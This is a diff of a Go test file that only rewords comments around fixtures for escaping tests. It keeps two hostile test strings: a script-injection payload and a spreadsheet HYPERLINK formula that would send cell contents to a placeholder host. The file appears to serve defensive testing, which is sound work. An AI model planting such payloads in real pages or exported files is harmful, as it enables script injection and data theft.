@@ -15,14 +15,14 @@ import (
 	"stockroom/store/storetest"
 )
 
-// evil is a text that runs a script in a page that does not escape it. formula is a text
-// that a spreadsheet runs as a formula.
+// evil is a string that runs a script in a page that does not escape it. formula is a
+// string that a spreadsheet runs as a formula.
 const (
 	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
 	formula = `=HYPERLINK("http://example.com?"&A1)`
 )
 
-// hostile returns entities whose text attributes all contain the text.
+// hostile returns entities whose text attributes all contain this string.
 func hostile(text string) []store.Entity {
 	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
 	day := storetest.Now.AddDate(0, 0, -1)
